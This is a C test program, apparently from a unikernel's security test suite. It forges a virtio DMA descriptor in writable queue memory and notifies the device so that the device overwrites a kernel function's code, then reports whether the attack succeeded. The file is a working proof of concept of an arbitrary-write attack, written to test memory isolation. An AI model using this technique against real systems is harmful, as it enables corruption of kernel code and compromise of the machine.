/* SPDX-License-Identifier: BSD-2-Clause */
/* attack: VIRTIO_DMA_DESCRIPTOR */
/*
 * An arbitrary write into the queue, which is writable memory: a request in flight is given the address of a
 * function. No check of a driver sees it.
 */
#include "attack.h"
#include <uk/layout.h>
#include <uk/virtio.h>
#include <uk/virtio_rng.h>

/* Virtio 1.1, 2.6.5: a descriptor's address, length and flags; the available ring's index behind it. */
struct descriptor {
	uint64_t address;
	uint32_t bytes;
	uint16_t flags, next;
	uint16_t ring_flags, ring_index;
};

static __attribute__((noinline)) int target(void)
{
	volatile int result = 1;

	return result;
}

/* With guards, the queue and then the device's registers lie this far below the page of the buffers. */
#define APART (UK_PAGE_BYTES + UK_NULL_GUARD_BYTES)
#define QUEUE_NOTIFY 0x50

extern char __image_start[];

int main(void)
{
	const volatile uint64_t *code = attack_launder((const void *)target);
	const uintptr_t buffers = (uintptr_t)uk_virtio_memory(8) & -(uintptr_t)UK_PAGE_BYTES;
	volatile struct descriptor *queue = (void *)(buffers - APART);
	volatile uint32_t *notify = (void *)(buffers - 2 * APART + QUEUE_NOTIFY);
	const uint64_t before = *code;

	if (uk_virtio_rng_reseed() || target() != 1)
		return 1;
	attack_control_ok();
	queue->address = (uintptr_t)target - (uintptr_t)__image_start + 0x100000;
	queue->bytes = sizeof(*code);
	queue->ring_index++;
	*notify = 0;
	for (uint32_t i = 0; *code == before && i < 50000000; i++)
		;
	if (*code != before)
		attack_succeeded();
	return 0;
}
